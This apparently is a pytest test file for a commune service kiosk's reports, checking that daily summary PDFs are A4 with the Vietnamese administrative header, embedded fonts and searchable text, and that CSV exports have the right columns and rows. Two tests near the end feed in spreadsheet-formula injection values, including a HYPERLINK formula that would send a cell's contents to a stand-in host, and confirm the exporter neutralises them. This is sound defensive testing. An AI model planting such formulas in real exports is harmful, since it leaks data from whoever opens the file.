"""The PDF and the CSV of a summary: A4, the commune's header, embedded fonts, searchable text."""

from __future__ import annotations

import csv
import io
import re
from datetime import date
from functools import cache

import pytest
from pypdf import PdfReader
from reportlab.pdfbase.ttfonts import TTFontFile

from kiosk.domain.ratings import REASON_LABELS, SCALES
from kiosk.domain.summary import Period
from kiosk.domain.summary_views import STATUS_LABELS, Summary
from kiosk.resources import font_path
from kiosk.services.context import AppContext
from kiosk.services.report_records import report_records
from kiosk.services.summary import build_summary
from printing import report_pdf
from printing.admin_document import MOTTO, NATION
from printing.report_csv import COLUMNS, CSV_DOC, ReportRecord, write_records_csv
from printing.report_sections import NOTES, summary_tables, title_lines
from printing.summary_narrative import summary_narrative
from tests.conftest import make_config
from tests.summary.dataset import MONDAY, STAFF_NAME, TEAM_NAME, VN

SITE = '[site]\ncommune = "Xã Đức Phong"\nprovince = "tỉnh Quảng Ngãi"\n'


def pdf_bytes(summary: Summary) -> bytes:
    stream = io.BytesIO()
    report_pdf.write_summary_pdf(summary, stream, invariant=True)
    return stream.getvalue()


def pdf_text(data: bytes) -> str:
    """The text a PDF reader can search and copy (pypdf reads the fonts' Unicode maps)."""
    reader = PdfReader(io.BytesIO(data))
    return "\n".join(page.extract_text() for page in reader.pages)


@pytest.fixture
def monday(ctx: AppContext, week: object) -> Summary:
    return build_summary(ctx, Period.day(MONDAY))


@pytest.fixture
def site_ctx(ctx: AppContext, tmp_path_factory: pytest.TempPathFactory) -> AppContext:
    """The dataset's database under a config that names the commune and the province."""
    config = make_config(tmp_path_factory.mktemp("site"), SITE, url=ctx.config.database_url)
    return AppContext(config=config, db=ctx.db, clock=ctx.clock)


def test_pdf_is_a4_with_the_communes_header_as_searchable_text(
    site_ctx: AppContext, week: object
) -> None:
    data = pdf_bytes(build_summary(site_ctx, Period.day(MONDAY)))
    assert data.startswith(b"%PDF")
    assert re.search(rb"/MediaBox \[ 0 0 595\.27\d* 841\.88\d* \]", data)
    text = pdf_text(data)
    for expected in (
        "ỦY BAN NHÂN DÂN",  # the administrative frame (printing.admin_document)
        "XÃ ĐỨC PHONG",
        "Kết quả tiếp nhận, hướng dẫn người dân",
        "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM",
        "Độc lập - Tự do - Hạnh phúc",
        "\n Đức Phong, ngày",  # the place without "Xã", as the decree writes it
        "BÁO CÁO TỔNG HỢP NGÀY",
        "Ngày 23/11/2026 (so sánh với ngày 21/11/2026)",
        STAFF_NAME,
        TEAM_NAME,
        "Nhà văn hóa thôn 2",
        "Tỷ lệ hài lòng trở lên",
        "75,0 %",
    ):
        assert expected in text


def test_pdf_embeds_the_shipped_font_regular_and_bold_and_nothing_else(monday: Summary) -> None:
    data = pdf_bytes(monday)
    fonts = set(re.findall(rb"/BaseFont /(\S+)", data))
    assert {re.sub(rb"^[A-Z]{6}\+", b"", f) for f in fonts} == {
        b"NotoSans-Regular",
        b"NotoSans-Bold",
    }
    assert data.count(b"/FontFile2") == 2  # both embedded as TrueType subsets
    assert data.count(b"/ToUnicode") >= 2  # so readers can search and copy the text


def test_pdf_of_an_empty_day_still_renders(ctx: AppContext) -> None:
    text = pdf_text(pdf_bytes(build_summary(ctx, Period.day(date(2026, 12, 2)))))
    assert "Không có phiếu" in text and "Không có lượt hỗ trợ" in text


@cache
def shipped_glyphs() -> frozenset[int]:
    return frozenset(
        set(TTFontFile(str(font_path())).charToGlyph)
        & set(TTFontFile(str(font_path(bold=True))).charToGlyph)
    )


def test_every_character_the_report_prints_has_a_glyph_in_the_shipped_font(
    monday: Summary,
) -> None:
    texts = [*title_lines(monday), *NOTES, NATION, MOTTO, summary_narrative(monday)]
    for table in summary_tables(monday):
        texts += [table.title, table.note, *table.columns, *(c for row in table.rows for c in row)]
    texts += [level.label.vi for levels in SCALES.values() for level in levels]
    texts += [label.vi for label in REASON_LABELS.values()] + list(STATUS_LABELS.values())
    missing = {ch for text in texts for ch in text if ord(ch) not in shipped_glyphs()}
    assert not missing, f"no glyph for {sorted(missing)}"


def read_csv(ctx: AppContext, period: Period) -> tuple[bytes, list[dict[str, str]]]:
    stream = io.BytesIO()
    write_records_csv(report_records(ctx, period), stream, VN)
    data = stream.getvalue()
    return data, list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_is_utf8_with_a_bom_and_one_row_per_ticket_or_walk_in(
    ctx: AppContext, week: object
) -> None:
    data, rows = read_csv(ctx, Period.day(MONDAY))
    assert data.startswith(b"\xef\xbb\xbf")
    assert tuple(rows[0]) == COLUMNS
    assert [r["Số phiếu"] for r in rows[:7]] == [
        "A001",
        "B001",
        "E001",
        "A002",
        "A003",
        "D001",
        "B002",
    ]
    assert [r["Loại"] for r in rows[7:]] == ["Không lấy số"] * 3
    assert len(rows) == 10


def test_csv_rows_carry_the_final_line_times_helpers_outcomes_and_ratings(
    ctx: AppContext, week: object
) -> None:
    _, rows = read_csv(ctx, Period.day(MONDAY))
    by_number = {r["Số phiếu"]: r for r in rows if r["Số phiếu"]}
    a1, a2, b1 = by_number["A001"], by_number["A002"], by_number["B001"]
    assert (a1["Giờ lấy số"], a1["Giờ gọi"], a1["Chờ (phút)"], a1["Phục vụ (phút)"]) == (
        "09:00",
        "09:10",
        "10",
        "18",
    )
    assert a1["Người hỗ trợ"] == f"{STAFF_NAME}; Lê Thu Hà"
    assert a1["Ưu tiên"] == "Người cao tuổi (từ 60 tuổi)" and a1["Đánh giá"] == "Rất hài lòng"
    assert a2["Hàng đợi"] == "E" and a2["Thủ tục"] == "Kích hoạt tài khoản VNeID"
    assert (b1["Đánh giá"], b1["Lý do"]) == ("Không hài lòng", "Thời gian chờ lâu")
    assert by_number["E001"]["Kết quả"] == (
        "Đã nộp hồ sơ trực tuyến có hỗ trợ; Đã thanh toán trực tuyến"
    )
    assert by_number["D001"]["Trạng thái"] == "Chưa phục vụ khi hết giờ"


def test_csv_puts_a_walk_in_past_midnight_on_its_start_day_with_the_end_date(
    ctx: AppContext, week: object
) -> None:
    _, rows = read_csv(ctx, Period.day(MONDAY))
    late = next(r for r in rows if r["Nơi hỗ trợ"] == "Nhà văn hóa thôn 2")
    assert (late["Ngày"], late["Giờ bắt đầu"], late["Giờ kết thúc"]) == (
        "2026-11-23",
        "23:30",
        "2026-11-24 00:30",
    )
    assert late["Phục vụ (phút)"] == "60"


def test_csv_of_an_empty_day_has_only_the_header(ctx: AppContext) -> None:
    _, rows = read_csv(ctx, Period.day(date(2026, 12, 2)))
    assert rows == []


def test_csv_doc_describes_every_column() -> None:
    for column in COLUMNS:
        assert column in CSV_DOC


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(start: str) -> None:
    payload = f'{start}HYPERLINK("http://x.example/?"&A1,"Bấm")'
    record = ReportRecord(
        day=MONDAY,
        is_ticket=False,
        procedure=payload,
        place=payload,
        helpers=(payload, "Lê Thu Hà"),
        reason=payload,
    )
    stream = io.BytesIO()
    write_records_csv([record], stream, VN)

    (row,) = list(csv.DictReader(io.StringIO(stream.getvalue().decode("utf-8-sig"), newline="")))
    for column in ("Thủ tục", "Nơi hỗ trợ", "Lý do"):
        assert row[column] == "'" + payload
    assert row["Người hỗ trợ"].startswith("'" + start)
    assert row["Ngày"] == MONDAY.isoformat()  # ordinary cells are left alone


def test_a_walk_in_place_typed_as_a_formula_reaches_the_csv_as_text(
    ctx: AppContext, week: object
) -> None:
    from kiosk.domain.enums import Outcome
    from kiosk.domain.visits import HelperCredit
    from kiosk.services.context import CLI_ACTOR
    from kiosk.services.helpers import add_helper
    from kiosk.services.visits import record_walk_in

    helper = add_helper(ctx, name="=1+1", kind="volunteer", role="teacher", actor=CLI_ACTOR)
    record_walk_in(
        ctx,
        helpers=[HelperCredit(helper.id)],
        outcomes=[Outcome.GUIDED_ONLY],
        actor=CLI_ACTOR,
        place="@SUM(A1:A9)",
    )
    _, rows = read_csv(ctx, Period.day(ctx.clock().date()))
    row = next(r for r in rows if r["Nơi hỗ trợ"].endswith("SUM(A1:A9)"))
    assert (row["Nơi hỗ trợ"], row["Người hỗ trợ"]) == ("'@SUM(A1:A9)", "'=1+1")
